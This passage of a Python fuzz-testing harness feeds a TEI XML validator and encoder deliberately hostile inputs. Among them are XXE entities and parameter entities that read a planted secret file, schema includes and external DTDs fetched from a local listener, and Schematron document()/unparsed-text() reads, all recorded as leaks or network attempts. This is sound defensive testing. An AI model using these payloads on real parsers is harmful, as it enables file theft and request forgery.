             MALFORMED, "a NUL after the first 4 KiB"),
            ("invalid-utf8", data.replace(b"<p>The ", b"<p>\xff\xfe The ", 1), MALFORMED,
             "bytes that are not UTF-8"),
            ("invalid-utf8", data.replace(b"<p>The ", b"<p>\xc0\xaf\xc3\x28 The ", 1), MALFORMED,
             "an overlong and a broken sequence"),
            ("noncharacter", data.replace(b"<p>The ", "<p>\ufffe The ".encode(), 1), MALFORMED,
             "U+FFFE in a p"),
            ("noncharacter", data.replace(b"<p>The ", "<p>\uffff The ".encode(), 1), MALFORMED,
             "U+FFFF in a p"),
            ("noncharacter", data.replace(b"<p>The ", b"<p>&#xFFFE; &#0; The ", 1), MALFORMED,
             "character references to U+FFFE and U+0000"),
            ("cesu-surrogate", data.replace(b"<p>The ", b"<p>\xed\xa0\x80\xed\xb0\x80 The ", 1),
             MALFORMED, "a surrogate pair encoded as two UTF-8 sequences (CESU-8)"),
            ("cesu-surrogate", data.replace(b"<p>The ", b"<p>\xed\xb2\x80 The ", 1), MALFORMED,
             "an unpaired surrogate in UTF-8"),
            ("undeclared-entity", data.replace(b"<p>The ", b"<p>&nbsp; The ", 1), MALFORMED,
             "&nbsp; and no DOCTYPE"),
            ("xml11-control", data.replace(b'<?xml version="1.0"', b'<?xml version="1.1"', 1)
             .replace(b"<p>The ", b"<p>&#x1B;[31m&#x85;&#x9B;2J The ", 1), ANY,
             "XML 1.1 with escape characters as references"),
            ("bad-xml-id", data.replace(b'xml:id="L1932-06-05-stalin-kaganovich"',
                                        b'xml:id="[3f2a9c1e-7b4d-4e8a-9c0f-1a2b3c4d5e6f]"', 1),
             ANY, "an xml:id that is not an NCName"),
            ("encoding-mismatch", data.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1), ANY,
             "UTF-8 bytes declared UTF-16"),
            ("encoding-mismatch", data.replace(b"<p>The ", "<p>Caf\u00e9 The ".encode("latin-1"), 1),
             MALFORMED, "latin-1 bytes declared UTF-8"),
        ]
        for cls, content, expect, note in fixed:
            out.append(self._case(cls, content, expect, note, self.key("d")))
        depth = self.rng.randint(300, self.many(320, 3000))
        out.append(self._case("deep-nesting", data.replace(
            b"<p>The ", b"<p>" + b"<hi>" * depth + b"x" + b"</hi>" * depth + b" The ", 1),
            MALFORMED, f"{depth} nested elements", self.key("d"), heavy=True))
        attributes = " ".join(f'a{n}="{n}"' for n in range(12_000))
        out.append(self._case("many-attributes", self.tei(refs=[f"<hi {attributes}>x</hi>"]),
                              ANY, "12,000 attributes on one element", self.key("d"), heavy=True))
        length = self.many(300_000, 3_000_000)
        words = " ".join(self.rng.choice(["Stalin", "wrote", "to", "the", "Politburo", "1932"])
                         for _ in range(length // 6))
        out.append(self._case("long-line", self.tei(refs=[words]), ANY,
                              f"a line of {len(words)} characters", self.key("d"), heavy=True))
        return out

    def _hostile_names(self) -> list[Case]:
        out: list[Case] = []
        end = self.letter_bytes.rindex(b"</TEI>")
        for name in HOSTILE_NAMES:
            key = self.key("d")
            kind = self.rng.choice(["malformed", "malformed", "invalid", "valid"])
            if kind == "malformed":
                content, expect = self.letter_bytes[: self.rng.randrange(10, end)], MALFORMED
            elif kind == "invalid":
                doctype = f'<!DOCTYPE TEI SYSTEM "{self.url(key, "evil.dtd")}">\n'
                content, expect = self.tei(doctype).encode(), WARNED
                kind = "external-DTD"
            else:
                content, expect = self.letter_bytes, VALID
            out.append(Case("hostile-name", key, name, content, expect,
                            f"the name {name!r}, {kind} content", own_folder=True,
                            why=why_invalid(content.decode("utf-8", "replace"))))
        return out

    # -- hostile schemas -------------------------------------------------------------------

    def schemas(self) -> list[SchemaCase]:
        secret, out = self.secret, []

        def rng_case(cls: str, note: str, engines: Sequence[str] = ("jing", "lxml"),
                     encoding: str | None = None, **parts: str) -> None:
            include = restyle(self.rng, parts.pop("include", ""))
            if self.rng.random() < 0.3:  # the same element with a prefix of its own
                include = re.sub(r"<(include|externalRef)\b",
                                 rf'<r:\1 xmlns:r="{RNG_NS}"', include)
            values = {"prolog": "", "grammar_attrs": "", "include": include, "value": ""} | parts
            for engine in engines:
                key = self.key("s")
                text = RNG.format(**values).replace("KEY", key)
                data = transcode(text, encoding)
                out.append(SchemaCase(f"rng/{cls}", key, {"hostile.rng": data}, engine, note))

        url = f"http://127.0.0.1:{self.port}/KEY"
        hostport = f"127.0.0.1:{self.port}"
        rng_case("charref-include", "a character reference in an include URL",
                 include=f'<include href="&#104;ttp://{hostport}/KEY/x.rng"/>')
        rng_case("charref-include", "character references in externalRef's URL",
                 include=f'<define name="x"><externalRef href="h&#x74;tp://{hostport}/KEY/x.rng"/></define>')
        rng_case("xml-base", "xml:base on the grammar, a relative include",
                 grammar_attrs=f' xml:base="{url}/"', include='<include href="x.rng"/>')
        rng_case("xml-base", "xml:base on the include itself",
                 include=f'<include xml:base="{url}/" href="x.rng"/>')
        rng_case("gt-in-attribute", "a > inside an attribute before href",
                 include=f'<include ns="a>b" href="{url}/x.rng"/>')
        rng_case("utf16", "a UTF-16 grammar including a URL", encoding="utf-16le-bom",
                 include=f'<include href="{url}/x.rng"/>')
        rng_case("external-dtd", "a DOCTYPE with an external DTD on the listener",
                 prolog=f'<!DOCTYPE grammar SYSTEM "{url}/g.dtd">\n')
        rng_case("entity-secret", "an entity reading the secret, used as a value",
                 prolog=f'<!DOCTYPE grammar [<!ENTITY s SYSTEM "file://{secret.txt}">]>\n',
                 value="<value>&s;</value>")
        rng_case("parameter-entity", "a parameter entity on the listener",
                 prolog=f'<!DOCTYPE grammar [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>\n')
        rng_case("parameter-entity", "error-based XXE through parameter entities",
                 prolog=("<!DOCTYPE grammar [\n"
                         f'<!ENTITY % f SYSTEM "file://{secret.txt}">\n'
                         "<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM 'file:///nonexistent/%f;'>\">\n"
                         "%e;\n%x;\n]>\n"))
        rng_case("utf16-entity", "a UTF-16 grammar with an entity reading the secret",
                 encoding="utf-16be-bom",
                 prolog=f'<!DOCTYPE grammar [<!ENTITY s SYSTEM "file://{secret.txt}">]>\n',
                 value="<value>&s;</value>")
        rng_case("scheme-relative", "a scheme-relative include (//host/...)",
                 include=f'<include href="//{hostport}/KEY/x.rng"/>')
        rng_case("file-host", "a file: URL with a host (Java asks FTP)",
                 include=f'<include href="file://{hostport}/KEY/x.rng"/>')
        rng_case("jar-url", "a jar: URL around an http: one",
                 include=f'<include href="jar:{url}/x.jar!/x.rng"/>')
        rng_case("include-secret", "an include of the secret files",
                 include=(f'<define name="x"><externalRef href="file://{secret.txt}"/></define>'
                          f'<include href="{secret.xml}"/>'))
        rng_case("xinclude", "XInclude of the secret as a value",
                 value=('<value><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                        f'href="file://{secret.txt}" parse="text"/></value>'))
        for engine in ("jing", "lxml"):  # a local include that includes the network
            key = self.key("s")
            outer = RNG.format(prolog="", grammar_attrs="", value="",
                               include='<include href="inner.rng"/>')
            inner = (f'<grammar xmlns="http://relaxng.org/ns/structure/1.0">'
                     f'<include href="&#104;ttp://{hostport}/{key}/x.rng"/></grammar>\n')
            out.append(SchemaCase("rng/local-include-remote", key, {
                "outer.rng": outer.encode(), "inner.rng": inner.encode()}, engine,
                "a local include whose grammar includes a URL by character reference"))

        def rnc_case(cls: str, note: str, include: str = "", external: str = "",
                     encoding: str | None = None) -> None:
            key = self.key("s")
            text = RNC.format(include=include, external=external).replace("KEY", key)
            data = transcode(text, encoding)
            out.append(SchemaCase(f"rnc/{cls}", key, {"hostile.rnc": data}, "auto", note))

        rnc_case("concatenation", "an include URL made of two literals",
                 include=f'include "ht" ~ "tp://{hostport}/KEY/x.rnc"')
        rnc_case("escape", "an include URL with a \\x{68} escape",
                 include=f'include "\\x{{68}}ttp://{hostport}/KEY/x.rnc"')
        rnc_case("triple-quote", "an include URL in a triple-quoted literal",
                 include=f'include """{url}/x.rnc"""')
        rnc_case("triple-quote", "an include URL in a triple-apostrophe literal",
                 include=f"include '''{url}/x.rnc'''")
        rnc_case("comment-between", "a comment between include and its URL",
                 include=f'include # look\n  "{url}/x.rnc"')
        rnc_case("external-http", "external on the listener", external=f' | external "{url}/x.rnc"')
        rnc_case("external-secret", "external of the secret file",
                 external=f' | external "file://{secret.txt}"')
        rnc_case("external-secret", "external of the secret path", external=f' | external "{secret.txt}"')
        rnc_case("jar-url", "a jar: URL", include=f'include "jar:{url}/x.jar!/x.rnc"')
        rnc_case("scheme-relative", "a scheme-relative URL",
                 include=f'include "//{hostport}/KEY/x.rnc"')
        rnc_case("file-host", "a file: URL with a host (Java asks FTP)",
                 include=f'include "file://{hostport}/KEY/x.rnc"')
        rnc_case("utf16", "a UTF-16 compact schema including a URL", encoding="utf-16le-bom",
                 include=f'include "{url}/x.rnc"')

        def xsd_case(cls: str, note: str, encoding: str | None = None, **parts: str) -> None:
            key = self.key("s")
            include = restyle(self.rng, parts.pop("include", ""))
            values = {"prolog": "", "schema_attrs": "", "include": include, "enum": ""} | parts
            text = XSD.format(**values).replace("KEY", key)
            data = transcode(text, encoding)
            out.append(SchemaCase(f"xsd/{cls}", key, {"hostile.xsd": data}, "auto", note))

        xsd_case("charref-import", "a character reference in an import's schemaLocation",
                 include=f'<xs:import namespace="urn:x" schemaLocation="&#104;ttp://{hostport}/KEY/x.xsd"/>')
        xsd_case("xml-base", "xml:base on the schema, a relative include",
                 schema_attrs=f' xml:base="{url}/"', include='<xs:include schemaLocation="x.xsd"/>')
        xsd_case("xml-base", "xml:base on the import",
                 include=f'<xs:import xml:base="{url}/" namespace="urn:x" schemaLocation="x.xsd"/>')
        xsd_case("gt-in-attribute", "a > inside an attribute before schemaLocation",
                 include=f'<xs:import namespace="urn:a>b" schemaLocation="{url}/x.xsd"/>')
        xsd_case("include-secret", "an include of the secret XML file",
                 include=f'<xs:include schemaLocation="{secret.xml}"/>')
        xsd_case("include-secret", "an include of the secret text file by URL",
                 include=f'<xs:include schemaLocation="file://{secret.txt}"/>')
        xsd_case("utf16", "a UTF-16 schema importing a URL", encoding="utf-16be-bom",
                 include=f'<xs:import namespace="urn:x" schemaLocation="{url}/x.xsd"/>')
        xsd_case("external-dtd", "a DOCTYPE with an external DTD",
                 prolog=f'<!DOCTYPE xs:schema SYSTEM "{url}/x.dtd">\n')
        xsd_case("entity-secret", "an entity reading the secret, as an enumeration value",
                 prolog=f'<!DOCTYPE xs:schema [<!ENTITY s SYSTEM "file://{secret.txt}">]>\n',
                 enum='<xs:enumeration value="&s;"/>')
        xsd_case("utf16-entity", "a UTF-16 schema with an entity reading the secret",
                 encoding="utf-16le-bom",
                 prolog=f'<!DOCTYPE xs:schema [<!ENTITY s SYSTEM "file://{secret.txt}">]>\n',
                 enum='<xs:enumeration value="&s;"/>')
        xsd_case("redefine-http", "xs:redefine of a URL", include=f'<xs:redefine schemaLocation="{url}/x.xsd"/>')

        def sch_case(cls: str, note: str, checks: str = "", top: str = "",
                     binding: str = "xslt") -> None:
            key = self.key("s")
            text = SCH.format(checks=checks, top=top, binding=binding).replace("KEY", key)
            out.append(SchemaCase(f"sch/{cls}", key, {"hostile.sch": text.encode()}, "auto", note))

        def leak(select: str) -> str:
            return f'<sch:report test="true()" id="leak">leak: <sch:value-of select="{select}"/></sch:report>'

        sch_case("document-file-url", "document('file:///secret.xml') in a message",
                 checks=leak(f"document('file://{secret.xml}')"))
        sch_case("document-path", "document('/path/secret.xml') in a message",
                 checks=leak(f"document('{secret.xml}')"))
        sch_case("document-http", "document() of a URL", checks=leak(f"document('{url}/x.xml')"))
        sch_case("let-document", "a top-level let holding document()",
                 top=f"<sch:let name=\"s\" value=\"document('{secret.xml}')\"/>", checks=leak("$s"))
        sch_case("include-http", "sch:include of a URL",
                 checks=f'<sch:report test="true()" id="leak">leak: <sch:include href="{url}/x.sch"/></sch:report>')
        sch_case("include-secret", "sch:include of the secret XML file into a message",
                 checks=f'<sch:report test="true()" id="leak">leak: <sch:include href="{secret.xml}"/></sch:report>')
        sch_case("xslt2-unparsed-text", "xslt2 with unparsed-text() of the secret",
                 binding="xslt2", checks=leak(f"unparsed-text('{secret.txt}')"))
        sch_case("xsl-include", "an xsl:include of a URL in the schema",
                 top=f'<xsl:include xmlns:xsl="http://www.w3.org/1999/XSL/Transform" href="{url}/x.xsl"/>')
        sch_case("xsl-key-document", "an xsl:key and document() of the secret text",
                 top='<xsl:key xmlns:xsl="http://www.w3.org/1999/XSL/Transform" name="k" match="*" use="."/>',
                 checks=leak(f"document('file://{secret.txt}')"))
        return out

    # -- sources for encode ----------------------------------------------------------------

    def sources(self) -> list[SourceCase]:
        rng, out = self.rng, []
        letters = [p.read_text(encoding="utf-8") for p in sorted(LETTER_SOURCES.glob("*.txt"))]
        chapters = [p.read_text(encoding="utf-8") for p in sorted(CHAPTER_SOURCES.glob("*.txt"))]

        def add(cls: str, data: str | bytes, note: str, kind: str = "auto", name: bytes = b"") -> None:
            key = self.key("e")
            raw = data.encode("utf-8") if isinstance(data, str) else data
            out.append(SourceCase(cls, key, raw, kind, name or f"{key}_fuzz.txt".encode(), note))

        add("src-random-bytes", rng.randbytes(self.many(3_000, 30_000)), "random bytes")
        add("src-random-bytes", bytes(rng.randrange(0x20, 0x7f) for _ in range(3_000)),
            "random printable ASCII")
        base = rng.choice(letters)
        add("src-control", base.replace("\n\n", "\n\x01\x1b[2J\x07\n", 1), "control characters")
        add("src-control", base.replace("Archive", "Arch\x85ive\x9b", 1), "C1 control characters")
        add("src-noncharacter", base.replace(" ", " \ufffe", 3), "U+FFFE in the text")
        add("src-noncharacter", base.replace(" ", " \uffff", 2) + "\ufdd0", "U+FFFF, U+FDD0")
        add("src-bidi", base.replace("Molotov", "Molo\u202etov", 2), "a right-to-left override")
        add("src-surrogate", base.encode("utf-8").replace(b" ", b" \xed\xa0\x80", 1),
            "a surrogate in CESU-8")
        add("src-utf16", codecs.BOM_UTF16_LE + base.encode("utf-16-le"), "UTF-16 with a BOM")
        add("src-bom", codecs.BOM_UTF8 + base.encode("utf-8"), "UTF-8 with a BOM")
        add("src-empty", b"", "an empty source")
        add("src-empty", b"\n \n\t\n", "only white space")
        line_words = self.many(20_000, 200_000)
        add("src-huge-line", " ".join(rng.choice(["Stalin", "wrote", "June", "4,", "1932", "the",
                                                  "Politburo", "1", "Tov."]) for _ in range(line_words)),
            f"one line of {line_words} words")
        add("src-many-lines", "\n".join(rng.choice(["a", "1", "B.", "", "I.", "Stalin", "1932"])
                                         for _ in range(self.many(3_000, 30_000))), "many short lines")
        stress = [("Stalin Molotov Kaganovich " * 2000, "a run of capitalised names"),
                  ("1 " * 5000, "a run of footnote-like numbers"),
                  ("June 4, 1932 to June 5, 1932 " * 500, "a run of dates"),
                  ("x" * 100_000, "a 100,000-letter word"),
                  ("A. B. C. D. E. F. " * 2000, "a run of initials"),
                  ("." * 50_000 + "\n" + "_" * 50_000, "dots and rules")]
        for text, note in rng.sample(stress, self.many(3, len(stress))):
            add("src-regex-stress", base + "\n\n" + text + "\n", note, kind=rng.choice(KINDS))
        for _ in range(self.many(8, 30)):
            source = rng.choice(letters + chapters)
            add("src-mutated", mutate(rng, source), "a fixture, mutated",
                kind=rng.choice(KINDS))
        for injection in INJECTIONS:
            key = self.key("e")
            text = injection.format(secret=self.secret.txt, url=self.url(key, "x.dtd"))
            lines = rng.choice(letters).split("\n")
            lines.insert(rng.randrange(1, len(lines)), f"The clerk wrote {text} in the margin.")
            out.append(SourceCase("src-markup", key, "\n".join(lines).encode(), rng.choice(KINDS),
                                  f"{key}_fuzz.txt".encode(), f"the text {text!r}"))
        add("src-hostile-name", base, "a source named with control characters",
            name=b"e-\x1b[31m-\x01.txt")
        add("src-hostile-name", base, "a source whose name is not UTF-8", name=b"e-\xff\xfe.txt")
        return out


KINDS = ("auto", "auto", "letters", "chapter")


def mutate(rng: random.Random, text: str) -> str:
    """A source with a few random edits of the kinds real sources have and worse."""
    lines = text.split("\n")
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(lines))
        edit = rng.randrange(9)
        if edit == 0:
            del lines[at]
        elif edit == 1:
            lines.insert(at, lines[rng.randrange(len(lines))])
        elif edit == 2:
            lines[at] = "".join(rng.sample(lines[at], len(lines[at])))
        elif edit == 3:
            lines.insert(at, rng.choice([
                "Stalin to Kaganovich June 31, 1932", "Molotov to Voroshilov February 30, 1933",
                "X to Y 99999", "Archive:", "Archive: " + "F. 1. " * 200, "0/XIII 32",
                "_____________________________", "1 " + "9" * 40 + " A note.", "P.S.",
                "I. INTRODUCTION", "[June 1-31, 1932]", "Tov. " * 50]))
        elif edit == 4:
            lines[at] = lines[at] + "".join(chr(rng.choice([0x301, 0x200B, 0x2028, 0x00AD, 0xFB01,
                                                            0x00B9, 0x2070 + rng.randrange(10),
                                                            rng.randrange(0x20, 0x3000)]))
                                            for _ in range(rng.randint(1, 8)))
        elif edit == 5:
            lines = lines[: rng.randrange(1, len(lines) + 1)]
        elif edit == 6:
            lines[at] = re.sub(r"\d", lambda _: str(rng.randrange(10)), lines[at])
        elif edit == 7:
            lines.insert(at, " " * rng.randrange(50) + "\t" * rng.randrange(5))
        else:
            lines[at] = lines[at].upper()
        if not lines:
            lines = [""]
    return "\n".join(lines)


def restyle(rng: random.Random, fragment: str) -> str:
    """``fragment``'s attributes written another legal way: the other quote, white space
    around "=" (a scanner of schema references may know only one way)."""
    def one(match: re.Match[str]) -> str:
        name, value = match.group(1), match.group(2)
        quote = "'" if "'" not in value and rng.random() < 0.5 else '"'
        equals = rng.choice(["=", "=", " = ", "\n  =\t"])
        return f"{name}{equals}{quote}{value}{quote}"

    return re.sub(r'([\w:.-]+)="([^"]*)"', one, fragment)


def why_invalid(text: str) -> str:
    """Why a generated document must never be valid, in words (for its failure message)."""
    if re.search("<!ENTITY", text, re.IGNORECASE):
        return "it declares entities"
    if re.search(r"<!DOCTYPE[^\[>]*?(SYSTEM|PUBLIC)", text):
        return EXTERNAL_DTD
    if re.search("<!doctype", text):
        return "its DOCTYPE is not well-formed (lowercase)"
    return "its root is not TEI"


def transcode(text: str, encoding: str | None) -> bytes:
    """``text`` (an XML document, schema or compact schema) in ``encoding`` with a declaration
    that names it (XML only: a compact schema gets the BOM and the code units); None: UTF-8
    as it is."""
    if encoding is None:
        return text.encode()
    bom, codec, label = ENCODINGS[encoding]
    body = re.sub(r"^<\?xml[^>]*\?>\n?", "", text)
    if body == text and not text.lstrip().startswith("<"):  # RELAX NG compact syntax
        return bom + text.encode(codec, "replace")
    decl = f'<?xml version="1.0" encoding="{label}"?>\n'
    if codec == "utf-7":  # the declaration must be readable before the encoding is known
        return decl.encode("ascii") + body.encode("utf-7")
    return bom + (decl + body).encode(codec, "replace")


# --- the jobs run in children ---------------------------------------------------------------


def validate_job(job: dict[str, Any]) -> dict[str, Any]:
    """Validate a batch and render every format (run in a child by :func:`isolated`)."""
    from tei.validate import validate_paths

    report = validate_paths(job["paths"], schemas=job["schemas"], builtin=job["builtin"],
                            register=job["register"], use_cache=False, rng_engine=job["engine"],
                            cache_directory=job["cache"])
    return {
        "exit_code": report.exit_code,
        "files": [(r.path, [i.to_dict() for i in r.issues]) for r in report.files],
        "renders": {fmt: render_checked(report, fmt) for fmt in FORMATS},
    }


def render_checked(report: Any, fmt: str) -> dict[str, Any]:
    """``report`` rendered in ``fmt``, what is wrong with the result, and which files cause it."""
    from tei.validate import ValidationReport

    def attempt(rep: Any) -> tuple[str | None, list[str]]:
        try:
            text = rep.render(fmt)
        except Exception as exc:  # a renderer's traceback is a finding
            return None, [f"traceback: {type(exc).__name__}: {exc}"[:500]]
        return text, format_problems(fmt, text, rep)

    text, problems = attempt(report)
    culprits: list[str] = []
    if problems and len(report.files) > 1:
        for result in report.files:
            single = ValidationReport(files=[result], strict=report.strict,
                                      schemas=report.schemas, rules=report.rules)
            if attempt(single)[1]:
                culprits.append(result.path)
    return {"text": text, "problems": problems, "culprits": culprits}


def format_problems(fmt: str, text: str, report: Any) -> list[str]:
    """What makes a rendered report unusable: not writable as UTF-8, raw control characters
    where a terminal or a log shows them, a structure its readers cannot parse, injected lines."""
    problems = []
    try:
        text.encode("utf-8")
    except UnicodeEncodeError as exc:
        problems.append(f"cannot be written as UTF-8 ({exc.reason} at {exc.start})")
    if fmt in ("text", "github", "junit"):
        raw = RAW_CONTROL.search(text)
        if raw:
            problems.append(f"raw control character U+{ord(raw.group()):04X} in the report")
    issues = report.issues
    try:
        if fmt in ("json", "sarif"):
            data = json.loads(text)
            if fmt == "json" and len(data["files"]) != len(report.files):
                problems.append(f"{len(data['files'])} files in the JSON for {len(report.files)}")
            if fmt == "sarif" and len(data["runs"][0]["results"]) != len(issues):
                problems.append("SARIF results do not match the issues")
        elif fmt == "junit":
            from lxml import etree

            root = etree.fromstring(text.encode("utf-8", "surrogateescape"))
            if root.get("tests") != str(len(report.files)) or len(root.findall(".//testcase")) != len(report.files):
                problems.append("JUnit testcases do not match the files")
        elif fmt == "github":
            lines = text.rstrip("\n").split("\n")
            stray = [line for line in lines[:-1] if not line.startswith(("::error ", "::warning "))]
            if stray or len(lines) != len(issues) + 1:
                problems.append(f"{len(lines) - 1} annotation lines for {len(issues)} issues "
                                f"(a line break got through: {stray[:1]!r})")
        elif fmt == "text":
            # A line per issue, a blank line after each file's block, then the trailer
            # (counts, notes, schemas, the summary), which names no file from an issue line.
            from tei.validate.reports import text_trailer

            trailer = text_trailer(report).count("\n") + 1
            expected = len(issues) + sum(1 for r in report.files if r.issues) + trailer
            lines = text.rstrip("\n").split("\n")
            if len(lines) != expected:
                problems.append(f"{len(lines)} lines for {len(issues)} issues (a line break got through)")
    except Exception as exc:  # a report its reader cannot read
        problems.append(f"unreadable {fmt}: {type(exc).__name__}: {exc}"[:300])
    return problems


def encode_job(job: dict[str, Any]) -> dict[str, Any]:
    """Encode one source (run in a child by :func:`isolated`)."""
    from tei.encode import encode_sources

    result = encode_sources([Path(job["source"])], Path(job["out"]), kind=job["kind"],
                            register_path=Path(job["register"]))
    return {"exit_code": result.exit_code, "documents": [str(p) for p in result.documents],
            "warnings": list(result.warnings)}


# --- the harness ----------------------------------------------------------------------------

Subject = Case | SchemaCase | SourceCase


@dataclass
class Failure:
    cls: str
    key: str
    where: str  # which run: "validate builtin (library)", "cli validate --format junit"
    what: str
    copy: str = ""  # a copy of the input, to reproduce it
    label: str = ""  # the input's name and what it is, printable

    def line(self) -> str:
        subject = f"{self.key} {self.label}".strip()
        copy = f"\n      input: {self.copy}" if self.copy else ""
        return f"  {subject}\n      {self.where}: {self.what}{copy}"


@dataclass
class FuzzResult:
    seeds: list[int]
    work: Path
    failures: list[Failure] = field(default_factory=list)
    counts: Counter[str] = field(default_factory=Counter)
    runs: Counter[str] = field(default_factory=Counter)
    slow: list[str] = field(default_factory=list)
    seconds: float = 0.0

    def summary(self, per_class: int | None = None) -> str:
        """Counts, the failures' causes, then the failures by input class (``per_class`` of
        each at most)."""
        seeds = ", ".join(map(str, self.seeds))
        head = [f"fuzz seed {seeds}: {sum(self.counts.values())} inputs in {len(self.counts)} "
                "classes, " + ", ".join(f"{n} {what}" for what, n in sorted(self.runs.items()))
                + f", {self.seconds:.0f} s; replay: TEITOOL_FUZZ_SEED={self.seeds[0]}"]
        head += [f"slow (not a failure): {line}" for line in self.slow]
        if not self.failures:
            return "\n".join([*head, "no failures"])
        by_class: dict[str, list[Failure]] = {}
        causes: dict[str, set[str]] = {}
        for failure in self.failures:
            by_class.setdefault(failure.cls, []).append(failure)
            causes.setdefault(cause(failure.what), set()).add(failure.cls)
        lines = [*head, f"{len(self.failures)} failures in {len(by_class)} input classes "
                 f"(inputs copied under {self.work}/**/failures/). By cause:"]
        counted = Counter(cause(f.what) for f in self.failures)
        for text, n in counted.most_common():
            classes = sorted(causes[text])
            shown = ", ".join(classes[:6]) + (f" and {len(classes) - 6} more" if len(classes) > 6 else "")
            lines.append(f"  {n:4d} × {text}  [{shown}]")
        lines.append("By input class:")
        for cls in sorted(by_class):
            found = by_class[cls]
            lines.append(f"[{cls}] {len(found)} failures")
            lines += [failure.line() for failure in found[:per_class]]
            if per_class is not None and len(found) > per_class:
                lines.append(f"  … and {len(found) - per_class} more")
        return "\n".join(lines)

    def class_table(self) -> str:
        failed = Counter(f.cls for f in self.failures)
        width = max(map(len, [*self.counts, *failed, "class"]))
        rows = [f"{'class':<{width}}  inputs  failures"]
        rows += [f"{cls:<{width}}  {self.counts.get(cls, 0):>6}  {failed.get(cls, 0):>8}"
                 for cls in sorted({*self.counts, *failed})]
        return "\n".join(rows)


def cause(what: str) -> str:
    """A failure's message without what differs between inputs (paths, numbers, quotes)."""
    text = what.split("\n")[0]
    text = re.sub(r" on (stdout|stderr): .*", r" on \1", text)
    text = re.sub(r"(?<![\w.])/[^\s'\"]+", "PATH", text)
    text = re.sub(r"U\+[0-9A-F]{4}", "U+XXXX", text)
    text = re.sub(r"'[^']{40,}'|\"[^\"]{40,}\"", "'…'", text)
    text = re.sub(r"\d+", "N", text)
    return text[:160]


def printable(name: bytes | str) -> str:
    text = name if isinstance(name, str) else name.decode("utf-8", "backslashreplace")
    return text if text.isprintable() else repr(text)[1:-1]


@dataclass
class CliRun:
    """A CLI call: the process (None on a hang) and what is wrong with it."""

    done: subprocess.CompletedProcess[bytes] | None
    problems: list[str]


def halve(items: list[Any], probe: Callable[[list[Any]], str | None],
          budget: list[int]) -> list[tuple[Any, str]]:
    """The items that make ``probe`` fail on their own, by halving, within ``budget`` probes.

    ``probe(part)`` is None when ``part`` passes, else what went wrong. An item is only named
    when it fails alone, so a failure of the whole that no part reproduces names none.
    """
    if budget[0] <= 0:
        return []
    if len(items) == 1:
        budget[0] -= 1
        problem = probe(items)
        return [(items[0], problem)] if problem else []
    found: list[tuple[Any, str]] = []
    half = len(items) // 2
    for part in (items[:half], items[half:]):
        if len(part) == 1:
            found += halve(part, probe, budget)
        elif budget[0] > 0:
            budget[0] -= 1
            if probe(part):
                found += halve(part, probe, budget)
    return found


class Harness:
    """Runs one round of generated inputs through validate and encode; collects failures."""

    def __init__(self, seed: int, work: Path, listener: Listener, secret: Secret, *,
                 scale: str = "quick", log: Callable[[str], None] = lambda _: None,
                 result: FuzzResult | None = None) -> None:
        from tei.validate import jing

        self.seed = seed
        self.work = work
        self.listener = listener
        self.secret = secret
        self.scale = scale
        self.log = log
        self.result = result or FuzzResult([seed], work)
        self.rng = random.Random(seed * 7919 + 1)  # the harness's own choices (samples, formats)
        self.cache = work / "cache"
        self.failures_dir = work / "failures"
        self.inputs = work / "inputs"
        self.keys: dict[str, Subject] = {}
        self.jing = jing.available()
        self._seen: set[tuple[str, str, str]] = set()

    # -- bookkeeping -----------------------------------------------------------------------

    def fail(self, subject: Subject | None, where: str, what: str, cls: str = "") -> None:
        what = what.replace(self.secret.token, "<SECRET>")
        key = subject.key if subject is not None else "-"
        if (key, where, what) in self._seen:  # a halving probe found it again
            return
        self._seen.add((key, where, what))
        if subject is None:
            self.result.failures.append(Failure(cls or "batch", "-", where, what))
            return
        copy = self.failures_dir / f"{subject.key}{self._suffix(subject)}"
        self.failures_dir.mkdir(parents=True, exist_ok=True)
        if isinstance(subject, SchemaCase):
            copy.mkdir(exist_ok=True)
            for name, data in subject.files.items():
                (copy / name).write_bytes(data)
        elif not copy.exists():
            copy.write_bytes(subject.data)
        label = printable(subject.name) + " " if not isinstance(subject, SchemaCase) else ""
        self.result.failures.append(Failure(subject.cls, subject.key, where, what, str(copy),
                                            f"{label}({subject.note})"))

    def harm(self, text: str | bytes | None) -> str | None:
        """The secret in ``text``, or the words of a network attempt the listener cannot see
        (Java turns ``file://host/`` into FTP on port 21; a name lookup)."""
        leaked = self.secret.leaked(text)
        if leaked or not text:
            return leaked
        decoded = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
        attempt = NETWORK_ATTEMPT.search(decoded)
        return f"a network attempt ({attempt.group()!r})" if attempt else None

    def timed(self, where: str, seconds: float, subject: Subject | None = None) -> None:
        """Note a call slower than :data:`SLOW` (a hint of a hang to come, not a failure)."""
        if seconds > SLOW:
            what = f"{subject.key} {subject.cls}: " if subject is not None else ""
            self.result.slow.append(f"{what}{where}: {seconds:.1f} s")

    @staticmethod
    def _suffix(subject: Subject) -> str:
        if isinstance(subject, SchemaCase):
            return ""
        return ".txt" if isinstance(subject, SourceCase) else ".xml"

    def connections(self, where: str, default: Subject | None, cls: str = "") -> None:
        """Connections since the last look: each a failure of the input its URL names."""
        for conn in self.listener.take():
            subject = self.keys.get(conn.key() or "", default)
            carried = " carrying the secret" if self.secret.leaked(conn.said) else ""
            first = re.split(r"[\r\n]", conn.said)[0] or "(nothing said)"
            self.fail(subject, where, f"connected to the listener{carried}: {first[:200]!r}",
                      cls=cls or "unattributed-connection")

    # -- the round -------------------------------------------------------------------------

    def run(self) -> FuzzResult:
        started = time.perf_counter()
        gen = Generator(self.seed, self.listener.port, self.secret, self.inputs, scale=self.scale)
        cases, schemas, sources = gen.documents(), gen.schemas(), gen.sources()
        for case in cases:
            self._write(case)
        for schema in schemas:
            self._write_schema(schema)
        for source in sources:
            self._write_source(source)
        for item in (*cases, *schemas, *sources):
            self.keys[item.key] = item
            self.result.counts[item.cls] += 1
        self.log(f"seed {self.seed}: {len(cases)} TEI inputs, {len(schemas)} hostile schemas, "
                 f"{len(sources)} sources in {self.work}")
        self.listener.take()

        configs = self.configs()
        heavy = [c for c in cases if c.heavy]
        # DOCTYPE tricks also alone against jing: in a batch, a file jing stops at would hide
        # whether the ones after it make jing fetch their DTDs.
        doctypes = [c for c in cases if c.cls in DOCTYPE_CLASSES]
        jing_configs = [c for c in configs if c.engine == "jing" or c.name == "benign.rnc"]
